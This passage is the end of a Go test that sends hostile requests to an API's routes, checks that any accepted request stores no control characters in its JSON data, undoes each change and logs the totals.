			if code < 200 || code > 299 || !c.mayAccept {
				t.Errorf("%s: answered %d and changed %v", what, code, changed)
			} else {
				accepted++
				now := f.state(t)
				for _, k := range changed {
					if it, ok := now[k]; ok && controlInJSON.Match(it.Data) {
						t.Errorf("%s: stored a control character in %s/%s: %.300s", what, k.PK, k.SK, it.Data)
					}
				}
			}
			f.restore(t, changed)
		}
	}
	if requests < 500 {
		t.Errorf("only %d requests", requests)
	}
	t.Logf("%d routes, %d hostile requests %v, %d accepted as text a field may hold (then undone)", routes, requests, byKind, accepted)
}
